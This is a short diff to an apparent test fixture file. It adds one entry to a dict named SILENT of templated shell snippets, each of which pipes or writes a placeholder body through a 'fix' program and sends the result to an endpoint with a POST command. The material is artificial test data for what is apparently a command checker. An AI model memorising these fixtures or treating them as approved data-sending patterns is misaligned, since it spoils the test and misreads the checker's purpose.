@@ -106,6 +106,7 @@ SILENT = {
     "a program behind echo": f"B='{BODY}'\nB=$(echo \"$B\" | fix)\n{POST} -d \"$B\" {ACQUIRE}\n",
     "a program before curl": f"B='{BODY}'\nfix <<< \"$B\" | {POST} -d @- {ACQUIRE}\n",
     "a program in a pipe": f"B='{BODY}'\necho \"$B\" | ./fix | \\\n  {POST} -d @- {ACQUIRE}\n",
+    "a program behind a printed text": f"echo '{BODY}' | ./fix | {POST} -d @- {ACQUIRE}\n",
     "a program of a file": f"echo '{BODY}' > a.json\n./fix a.json > b.json\n{POST} -d @b.json {ACQUIRE}\n",
     "a program that may change a file": f"echo '{BODY}' > a.json\n./fix ./a.json\n{POST} -d @a.json {ACQUIRE}\n",
     "a program on a document": document("cat > a.json", BODY) + f"sudo fix -w a.json && {POST} -d @a.json {ACQUIRE}\n",
